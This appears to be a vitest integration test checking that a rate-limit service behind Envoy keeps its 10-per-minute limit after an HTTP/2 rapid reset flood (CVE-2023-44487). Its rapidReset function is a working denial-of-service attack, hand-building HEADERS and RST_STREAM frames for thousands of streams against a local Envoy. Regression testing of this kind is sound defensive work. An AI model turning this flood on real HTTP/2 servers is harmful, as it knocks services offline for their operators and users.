/**
 * A downstream client resetting HTTP/2 streams at Envoy (rapid reset, CVE-2023-44487) must not switch Envoy's
 * limits off. Envoy cancels the rate-limit call of every stream its client resets, so the service sees a flood
 * of RST_STREAM on Envoy's own connections; behind `failure_mode_deny: false`, a service that answers that by
 * refusing Envoy lets every later request through unlimited. Here an attacker opens and resets a few thousand
 * streams at Envoy, over tens of connections, on a route with its own `rate_limits` (cluster `attack`); then 30
 * requests on a route limited to 10 per minute (cluster `app`) must see exactly 10 admitted, and Envoy counts
 * no rate-limit error and no fail-open on that route. On memory and Redis; on both transports (vitest.config.ts
 * TRANSPORT_TESTS).
 */
import * as http2 from 'node:http2';
import * as net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rlsBootstrap } from '../support/envoy-bootstrap.js';
import { envoyRlsCounts, startEnvoyStack, warmUp, type Backend, type EnvoyStack } from '../support/envoy-stack.js';
import { describeEnvoy } from '../support/envoy.js';
import { eventually } from '../support/eventually.js';
import { scrapeMetrics } from '../support/scrape.js';

const RULES = { 'rr.yaml': 'domain: rr\ndescriptors:\n  - key: generic_key\n    value: limited\n    rate_limit: {unit: minute, requests_per_unit: 10}\n' };
const ATTACK = { connections: 20, streams: 4000, maxMs: 2500 };

type Cluster = Record<string, unknown> & { name: string; load_assignment: { cluster_name: string } };

/** Envoy's config: /attack (cluster `attack`, its own descriptor) and /limited (cluster `app`, 10 per minute). */
function config(peers: Parameters<Parameters<typeof startEnvoyStack>[0]['config']>[0]): object {
  const doc = rlsBootstrap({
    ...peers,
    domain: 'rr',
    routes: [
      { prefix: '/attack', rateLimits: [{ actions: [{ generic_key: { descriptor_value: 'attack' } }] }], route: { cluster: 'attack' } },
      { prefix: '/limited', rateLimits: [{ actions: [{ generic_key: { descriptor_value: 'limited' } }] }] },
    ],
  }) as { static_resources: { clusters: Cluster[] } };
  const clusters = doc.static_resources.clusters;
  // A loaded CI machine can take more than the 1 s default to connect; a connect timeout is not what this tests.
  clusters.find((c) => c.name === 'ratelimit')!['connect_timeout'] = '5s';
  // The same upstream under another name: Envoy counts the attack's rate-limit calls apart from /limited's.
  const attack = structuredClone(clusters.find((c) => c.name === 'app')!);
  attack.name = attack.load_assignment.cluster_name = 'attack';
  clusters.push(attack);
  return doc;
}

/** One HTTP/2 frame: 9-byte header and payload. */
function h2Frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK: GET, http, :authority and :path as literals without indexing (names from the static table). */
const REQUEST_BLOCK = Buffer.concat([Buffer.from([0x82, 0x86]), Buffer.from([0x01, 9]), Buffer.from('localhost'), Buffer.from([0x04, 7]), Buffer.from('/attack')]);
const CANCEL = Buffer.from([0, 0, 0, http2.constants.NGHTTP2_CANCEL]);

/**
 * Opens and resets streams at Envoy, written as raw frames (HEADERS with END_STREAM, then RST_STREAM CANCEL at
 * once) so that the attacker costs next to nothing, over `connections` connections until `streams` were sent or
 * `maxMs` passed; a connection Envoy closes is replaced. The streams sent.
 */
async function rapidReset(port: number, o: typeof ATTACK): Promise<number> {
  let sent = 0;
  let opened = 0;
  const started = performance.now();
  const more = () => sent < o.streams && performance.now() - started < o.maxMs;
  const worker = async () => {
    while (more()) {
      const socket = net.connect(port, '127.0.0.1');
      opened++;
      socket.on('error', () => undefined);
      let acked = false;
      socket.on('data', () => {
        if (acked) return;
        acked = true;
        socket.write(h2Frame(4, 1, 0, Buffer.alloc(0))); // SETTINGS ACK of Envoy's SETTINGS
      });
      const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
      await new Promise<void>((resolve) => {
        socket.once('connect', () => resolve());
        socket.once('close', () => resolve());
      });
      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), h2Frame(4, 0, 0, Buffer.alloc(0))]));
      let id = 1;
      while (more() && !socket.destroyed && id < 2 ** 30) {
        // The HEADERS first, the resets a moment later: Envoy has started the rate-limit calls it then cancels.
        const headers: Buffer[] = [];
        const resets: Buffer[] = [];
        for (let i = 0; i < 50 && more(); i++, sent++, id += 2) {
          headers.push(h2Frame(1, 0x5, id, REQUEST_BLOCK));
          resets.push(h2Frame(3, 0, id, CANCEL));
        }
        socket.write(Buffer.concat(headers));
        await new Promise((resolve) => setTimeout(resolve, 1));
        socket.write(Buffer.concat(resets));
      }
      socket.destroy();
      await closed;
    }
  };
  await Promise.all(Array.from({ length: o.connections }, worker));
  console.log(`attack: ${sent} streams over ${opened} connections in ${(performance.now() - started).toFixed(0)} ms`);
  return sent;
}

async function get(url: string): Promise<number> {
  const res = await fetch(url);
  await res.arrayBuffer();
  return res.status;
}

describeEnvoy('rapid reset at Envoy', () => {
  describe.each<Backend>(['memory', 'redis'])('on %s', (backend) => {
    let stack: EnvoyStack;
    beforeAll(async () => {
      stack = await startEnvoyStack({ backend, rules: RULES, config });
      await warmUp(stack, 'attack', () => fetch(`${stack.url}/attack`));
    });
    afterAll(async () => {
      await stack?.close();
    });

    it('keeps the limit: 10 of 30 admitted after a few thousand streams reset at Envoy, no error, no fail-open', async () => {
      const sent = await rapidReset(Number(new URL(stack.url).port), ATTACK);
      // The calls Envoy started for the attack have ended (answered or cancelled) before the legitimate requests.
      await eventually(async () => (await stack.envoy.stat('cluster.ratelimit.upstream_rq_active')) === 0 && (await stack.envoy.stat('cluster.ratelimit.upstream_rq_pending_active')) === 0, { timeoutMs: 15_000, what: "Envoy's rate-limit calls ended" });
      const cancelled = await stack.envoy.stat('cluster.ratelimit.upstream_rq_tx_reset');
      const flood = await stack.envoy.stat('cluster.ratelimit.http2.outbound_control_flood');
      const statuses: number[] = [];
      for (let i = 0; i < 30; i++) statuses.push(await get(`${stack.url}/limited`));
      const admitted = statuses.filter((s) => s === 200).length;
      const app = await envoyRlsCounts(stack.envoy, 'app');
      const attack = await envoyRlsCounts(stack.envoy, 'attack');
      const guard = [...(await scrapeMetrics(stack.service.httpBase.replace('http://', '')))].filter(([k, v]) => k.startsWith('ratelimit_grpc_guard_total') && v > 0);
      console.log(
        `rapid reset at Envoy (${backend}, ${process.env['GRPC_TRANSPORT'] ?? 'lean'}): ${sent} streams reset, Envoy reset ${cancelled} rate-limit calls (outbound_control_flood ${flood}); ` +
          `then ${admitted} of 30 admitted; /limited ${JSON.stringify(app)}; /attack ${JSON.stringify(attack)}; guard ${JSON.stringify(guard)}`,
      );
      expect(sent).toBeGreaterThanOrEqual(1000);
      expect(admitted).toBe(10);
      expect(statuses.filter((s) => s === 429)).toHaveLength(20);
      expect(app).toEqual({ ok: 10, overLimit: 20, error: 0, failureModeAllowed: 0 });
      expect(guard.find(([k]) => k.includes('peer_refused'))).toBeUndefined(); // Envoy was never refused
    });
  });
});
